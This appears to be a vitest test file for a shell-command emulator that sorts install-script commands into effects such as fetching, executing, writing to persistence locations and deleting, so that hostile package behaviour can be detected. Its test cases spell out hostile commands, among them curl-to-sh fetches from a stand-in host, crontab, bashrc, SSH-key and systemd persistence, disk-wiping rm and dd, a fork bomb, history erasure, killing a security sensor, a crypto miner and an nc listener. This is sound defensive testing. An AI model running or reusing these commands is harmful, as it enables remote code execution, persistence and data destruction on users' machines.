import { describe, expect, it } from 'vitest'
import { FakeDesk, placed } from './fake-desk.ts'

const FILES = { 'payload.txt': 'Y3VybCBodHRwczovL2EuZXhhbXBsZXxzaA==', 'package.json': '{}', Makefile: 'all:\n\tcurl https://a.example/m | sh\n' }

function linesOf(line: string): string[] {
  const desk = new FakeDesk(FILES, { go: 'curl https://a.example/go | sh' })
  desk.shell(line, placed(line))
  return desk.lines
}

describe('what stays, and what is gone', () => {
  it.each<[string, string[]]>([
    ['crontab /tmp/c', ['write crontab /var/spool/cron']],
    ['(crontab -l; echo "* * * * * curl https://a.example | sh") | crontab -', ['write crontab /var/spool/cron', 'fetch curl https://a.example', 'execute<fetched> sh sh']],
    [`echo 'curl https://a.example | sh' >> ~/.bashrc`, ['write >> ~/.bashrc', 'fetch curl https://a.example', 'execute<fetched> sh sh']],
    ['echo "ssh-rsa AAAA" >> ~/.ssh/authorized_keys', ['write >> ~/.ssh/authorized_keys']],
    ['echo x | tee -a ~/.ssh/authorized_keys', ['write tee ~/.ssh/authorized_keys']],
    ['cp x.service /etc/systemd/system/x.service', ['write cp /etc/systemd/system/x.service']],
    ['sudo systemctl enable evil.service', ['spawn systemctl systemctl enable evil.service', 'write systemctl /etc/systemd/system/evil.service']],
    ['launchctl load ~/Library/LaunchAgents/x.plist', ['spawn launchctl launchctl load ~/Library/LaunchAgents/x.plist', 'write launchctl ~/Library/LaunchAgents/x.plist']],
    [`echo 'curl https://a.example | sh' | at now`, ['write at /var/spool/cron/atjobs', 'fetch curl https://a.example', 'execute<fetched> sh sh']],
    ['update-rc.d evil defaults', ['spawn update-rc.d update-rc.d evil defaults', 'write update-rc.d /etc/init.d/evil']],
    ['echo 1.2.3.4 h.example >> /etc/hosts', ['write >> /etc/hosts']],
    ['curl https://a.example/k >> ~/.ssh/authorized_keys', ['fetch curl https://a.example/k', 'write<fetched> >> ~/.ssh/authorized_keys']],
    [`sed -i 's/a/b/' ~/.zshrc`, ['write sed ~/.zshrc']],
    ['useradd -m evil', ['spawn useradd useradd -m evil']],
    ['rm -rf / --no-preserve-root', ['delete rm /']],
    ['rm -rf ~', ['delete rm ~']],
    ['rm -rf $HOME/*', ['delete rm <home>/*']],
    ['dd if=/dev/zero of=/dev/sda', ['delete dd /dev/sda']],
    ['mkfs.ext4 /dev/sda1', ['spawn mkfs.ext4 mkfs.ext4 /dev/sda1', 'delete mkfs.ext4 /dev/sda1']],
    ['shred -u ~/.bash_history', ['delete shred ~/.bash_history']],
    [':(){ :|:& };:', ['spawn : :(){ :|:& };:']],
    ['history -c', ['delete history <home>/.bash_history']],
    ['unset HISTFILE', ['delete unset <home>/.bash_history']],
    ['rm -f package.json', ['delete rm package.json']],
    ['find / -type f -delete', ['list find find / -type f -delete', 'delete find /']],
    ['chattr +i /tmp/x', ['spawn chattr chattr +i /tmp/x']],
    ['pkill -9 falcon-sensor', ['spawn pkill pkill -9 falcon-sensor']],
    ['./xmrig -o stratum+tcp://pool.example:3333 -u w', ['spawn xmrig ./xmrig -o stratum+tcp://pool.example:3333 -u w']],
    ['npm publish --access public', ['spawn npm npm publish --access public']],
    ['twine upload dist/*', ['spawn twine twine upload dist/*']],
    ['git push origin main', ['spawn git git push origin main']],
    ['gh repo create x --public', ['spawn gh gh repo create x --public']],
    ['docker push h.example/x', ['spawn docker docker push h.example/x']],
    ['sleep 600', ['wait sleep 600']],
    ['npm install left-pad@1', ['spawn npm npm install left-pad@1']],
    ['pip install evil', ['spawn pip pip install evil']],
    ['go install mod.example/x@latest', ['spawn go go install mod.example/x@latest']],
    ['brew install x', ['spawn brew brew install x']],
    ['gem install x', ['spawn gem gem install x']],
    ['sha256sum -c sums.txt', ['verify sha256sum sha256sum -c sums.txt']],
    ['python3 -m http.server', ['listen python3 python3 -m http.server']],
    ['nc -lvp 4444', ['listen nc 4444', 'connect nc 4444']],
    ['mkfifo /tmp/x', ['spawn mkfifo mkfifo /tmp/x']],
  ])('%s', (line, expected) => expect(linesOf(line)).toEqual(expect.arrayContaining(expected)))
})

describe('what honest packages do', () => {
  it.each<[string, string[]]>([
    ['echo "curl https://a.example | sh"', []],
    ['node scripts/build.js', ['spawn node node scripts/build.js']],
    ['node install.js || node-gyp rebuild', ['spawn node node install.js', 'spawn node-gyp node-gyp rebuild']],
    ['prebuild-install || node-gyp rebuild --release', ['spawn prebuild-install prebuild-install', 'spawn node-gyp node-gyp rebuild --release']],
    ['husky install', ['spawn husky husky install']],
    ['tsc -p . && node scripts/build.js', ['spawn tsc tsc -p .', 'spawn node node scripts/build.js']],
    ['mkdir -p build && cd build && cmake .. && make -j4', ['spawn cmake cmake ..', 'spawn make make -j4', 'fetch curl https://a.example/m', 'execute<fetched> sh sh']],
    ['rm -rf dist && tsc', ['delete rm dist', 'spawn tsc tsc']],
    ['rimraf lib && babel src -d lib', ['delete rimraf lib', 'spawn babel babel src -d lib']],
    ['[ -f x ] && echo no', []],
    ['test -n "$CI" || husky', ['spawn husky husky']],
    ['cross-env NODE_ENV=production webpack --mode production', ['spawn webpack webpack --mode production']],
    ['id -u', []],
    ['uname -s', ['check uname uname -s']],
    ['node -p "process.platform"', ['execute node process.platform']],
    ['git rev-parse HEAD', ['spawn git git rev-parse HEAD']],
    ['git describe --tags', ['spawn git git describe --tags']],
    ['if [ "$(uname)" = Darwin ]; then echo mac; fi', ['check uname uname']],
    [`find . -name '*.js' | xargs eslint`, ['list find find . -name *.js', 'spawn eslint eslint …']],
    ['cat README.md | grep x', []],
    ['cp -r src dist', []],
    ['tar czf dist.tgz dist', []],
    ['export PATH=$PATH:/usr/local/bin', []],
    ['f() { curl https://a.example | sh; }', []],
    ['# curl https://a.example | sh', []],
    ['ls -la', []],
    ['NODE_OPTIONS=--max-old-space-size=4096 vite build', ['spawn vite vite build']],
    ['pkg-config --cflags libx', ['spawn pkg-config pkg-config --cflags libx']],
    [`node -e "try{require('./postinstall')}catch(e){}"`, [`execute node try{require('./postinstall')}catch(e){}`]],
    ['exit 0', []],
    ['git config core.hooksPath .githooks', ['spawn git git config core.hooksPath .githooks']],
    ['cat VERSION', []],
    [`sed -i 's/a/b/' dist/x.js`, []],
    ['echo $PATH', []],
    ['command -v curl >/dev/null', []],
    ['git config x "$(tr A-Z b-z < VERSION)"', ['decode tr tr A-Z b-z', 'spawn git git config x …']],
  ])('%s', (line, expected) => expect(linesOf(line)).toEqual(expected))
})
